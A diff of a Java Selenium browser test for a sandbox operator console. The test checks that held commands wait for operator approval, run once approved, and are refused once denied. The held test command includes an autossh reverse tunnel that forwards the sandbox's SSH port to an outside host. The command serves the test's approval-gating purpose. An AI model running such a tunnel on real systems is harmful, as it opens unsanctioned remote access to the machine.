@@ -17,6 +17,9 @@ import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Tag;
 import org.junit.jupiter.api.Test;
+import com.fasterxml.jackson.databind.JsonNode;
+import java.util.Set;
+import java.util.concurrent.TimeUnit;
 import org.junit.jupiter.api.extension.RegisterExtension;
 import org.openqa.selenium.By;
 import org.openqa.selenium.JavascriptExecutor;
@@ -46,11 +49,12 @@ class ConsoleBrowserTest {
     private static final Path SHOTS = Path.of("target", "console-screenshots");
     private static final Duration WAIT = Duration.ofSeconds(30);
 
-    /** The holds routes' contract, for the holds page: the real routes are not on this server yet. */
-    private static final HoldsContract HOLDS = new HoldsContract();
-
     @RegisterExtension
-    static final LiveServer live = LiveServer.withConsole(Console.Settings.defaults().withApi(HOLDS.uri()));
+    static final LiveServer live = LiveServer.withConsole(Console.Settings.defaults());
+
+    /** A command the passport {@code hold} holds before it runs: it waits for an operator. */
+    private static final String HELD = "{\"command\": \"touch /workspace/ran; autossh -M 0 -R 9000:localhost:22 agent@203.0.113.9\","
+            + " \"timeout_seconds\": 60}";
 
     private static ChromeDriver browser;
     private static ChromeDriverService service;
@@ -73,7 +77,6 @@ class ConsoleBrowserTest {
 
     @AfterAll
     static void stopBrowser() throws IOException {
-        HOLDS.close();
         try {
             if (browser != null) browser.quit();
         } finally {
@@ -152,10 +155,12 @@ class ConsoleBrowserTest {
     }
 
     @Test
-    void anOperatorApprovesAHoldAndADecisionThatComesSecondIsToldSo() throws Exception {
-        String id = live.create(ADMIN);
-        HOLDS.hold("h-1", id);
-        HOLDS.hold("h-2", id);
+    void anOperatorApprovesAHeldCommandWhichThenRunsAndADecisionThatComesSecondIsToldSo() throws Exception {
+        LiveServer.Reply made = live.call("POST", "/v1/sandboxes", ADMIN, "{\"passport\": \"hold\"}");
+        assertThat(made.status()).as(made.body()).isEqualTo(201);
+        String id = made.json().get("id").asText();
+        CompletableFuture<LiveServer.Reply> first = execLater(id);
+        String h1 = pendingHold(id, Set.of());
         signIn();
 
         browser.get(live.uri("/ui/fleet").toString());
@@ -163,26 +168,51 @@ class ConsoleBrowserTest {
         browser.findElement(By.linkText("Holds")).click();
         await(() -> browser.getCurrentUrl().endsWith("/ui/holds"));
         shot("6-holds");
-        holdRow("h-1").findElement(By.cssSelector("button.approve")).click();
+        holdRow(h1).findElement(By.cssSelector("button.approve")).click();
         await(() -> browser.getCurrentUrl().contains("done=approved"));
         assertThat(browser.findElement(By.id("message")).getText()).isEqualTo("The hold was approved.");
-        assertThat(holdRow("h-1").getText()).contains("approved").contains("root");
-        assertThat(holdRow("h-1").findElements(By.tagName("button"))).isEmpty();
-        assertThat(HOLDS.state("h-1")).isEqualTo("approved");
+        assertThat(holdRow(h1).getText()).contains("approved").contains("root");
+        assertThat(holdRow(h1).findElements(By.tagName("button"))).isEmpty();
         shot("7-hold-approved");
+        assertThat(first.get(60, TimeUnit.SECONDS).json().get("exit_code").asInt()).as("the approved command ran").isNotEqualTo(126);
+        assertThat(live.call("POST", "/v1/sandboxes/" + id + "/exec", ADMIN, "{\"command\": \"test -e /workspace/ran\"}")
+                .json().get("exit_code").asInt()).isZero();
 
-        // another operator decides h-2 while this page still offers it
-        HOLDS.decidedElsewhere("h-2", "alice");
-        holdRow("h-2").findElement(By.cssSelector("button.approve")).click();
+        // a second held command, denied through the API by another operator while this page still offers it
+        CompletableFuture<LiveServer.Reply> second = execLater(id);
+        String h2 = pendingHold(id, Set.of(h1));
+        browser.navigate().refresh();
+        await(() -> holdRow(h2).findElements(By.cssSelector("button.approve")).size() == 1);
+        assertThat(live.call("POST", "/holds/" + h2 + "/deny", ADMIN, null).status()).isEqualTo(200);
+        holdRow(h2).findElement(By.cssSelector("button.approve")).click();
         await(() -> browser.getCurrentUrl().contains("done=already-decided"));
         assertThat(browser.findElement(By.id("message")).getText()).contains("already decided");
-        assertThat(HOLDS.state("h-2")).isEqualTo("denied");
-        assertThat(HOLDS.requests()).contains("POST /holds/h-1/approve Bearer " + ADMIN, "POST /holds/h-2/approve Bearer " + ADMIN);
+        assertThat(second.get(60, TimeUnit.SECONDS).json().get("exit_code").asInt()).as("the denied command was refused").isEqualTo(126);
         try (AuditLog log = AuditLog.openExisting(live.auditFile())) {
             assertThat(log.query(AuditQuery.all().withKind("console").withRule("console.approve")))
-                    .anySatisfy(r -> assertThat(r.payloadMap()).containsEntry("outcome", "hold h-1: decided").containsEntry("token", "root"))
-                    .anySatisfy(r -> assertThat(r.payloadMap()).containsEntry("outcome", "hold h-2: already_decided"));
+                    .anySatisfy(r -> assertThat(r.payloadMap()).containsEntry("outcome", "hold " + h1 + ": decided").containsEntry("token", "root"))
+                    .anySatisfy(r -> assertThat(r.payloadMap()).containsEntry("outcome", "hold " + h2 + ": already_decided"));
         }
+    }
+
+    private static CompletableFuture<LiveServer.Reply> execLater(String id) {
+        return CompletableFuture.supplyAsync(() -> live.call("POST", "/v1/sandboxes/" + id + "/exec", ADMIN, HELD));
+    }
+
+    /** The id of the sandbox's pending hold that is none of {@code seen}, once the server lists it. */
+    private static String pendingHold(String sandboxId, Set<String> seen) {
+        String[] found = new String[1];
+        await(() -> {
+            for (JsonNode h : live.call("GET", "/holds", ADMIN, null).json()) {
+                boolean fresh = h.get("sandboxId").asText().equals(sandboxId) && h.get("state").asText().equals("pending");
+                if (fresh && !seen.contains(h.get("id").asText())) {
+                    found[0] = h.get("id").asText();
+                    return true;
+                }
+            }
+            return false;
+        });
+        return found[0];
     }
 
     private static WebElement holdRow(String holdId) {
